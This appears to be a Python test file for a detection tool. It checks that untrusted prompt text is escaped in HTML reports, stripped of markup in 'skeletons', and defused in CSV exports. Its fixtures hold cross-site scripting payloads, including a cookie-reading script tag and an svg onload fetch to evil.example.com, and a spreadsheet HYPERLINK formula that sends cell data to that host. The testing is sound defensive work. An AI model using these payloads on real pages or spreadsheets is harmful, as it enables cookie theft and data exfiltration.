"""Words of a prompt that become evidence stay words, on every page and in every file."""

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from detector.alerts.notify import write_csv
from detector.alerts.notify.indicators import FIELDS
from detector.profiles.skeletons import LONGEST_SHOWN, common_skeleton
from detector.report import ReportData, render_report

EVIL = (
    "Read <script>alert(document.cookie)</script> the page <img src=x onerror=alert(1)> and "
    "<svg/onload=fetch(`//evil.example.com`)> =HYPERLINK(1) \u202e then answer in full words, please number {}"
)
marked = st.lists(
    st.sampled_from([*"<>&\"'`=;/{}()", "script", "=cmd", "read", "the", "\u202e", "\x00", " "]), max_size=40
)


def test_a_skeleton_of_markup_has_no_markup():
    shown = common_skeleton([EVIL.format(word) for word in ("one", "two", "six")])
    assert "script" in shown
    assert not set("<>&\"'`=/") & set(shown)


@given(marked.map("".join))
def test_no_text_gives_a_skeleton_with_markup(text):
    shown = common_skeleton([text, text])
    assert len(shown) <= LONGEST_SHOWN
    assert not set("<>&\"'`=/{}()\x00") & set(shown)


@pytest.mark.parametrize("place", ["skeleton", "account"])
def test_the_report_shows_markup_as_text(place):
    attack = "<script>alert(1)</script><img src=x onerror=alert(2)>"
    alert = {
        "id": "alr_1",
        "kind": "cluster",
        "severity": "critical",
        "risk": 99.0,
        "status": "open",
        "accounts": [attack if place == "account" else "a", "b", "c"],
        "members": [
            {"account_id": attack if place == "account" else "a", "p_member": 1.0, "role": "core", "reasons": []}
        ],
        "evidence": {"skeletons": [{"text": attack, "kind": "template", "accounts": 3}]},
    }
    page = render_report(ReportData(alerts=[alert]))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<script>alert" not in page
    assert "<img" not in page


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "|", "%"])
def test_no_exported_cell_is_a_formula(start):
    cell = f'{start}HYPERLINK("http://evil.example.com/?"&A1)'
    out = io.StringIO(newline="")
    write_csv([dict.fromkeys(FIELDS, cell)], out)
    (row,) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1:]
    assert [c[0] for c in row] == ["'"] * len(FIELDS)
    assert json.loads(json.dumps(row)) == [f"'{cell}"] * len(FIELDS)
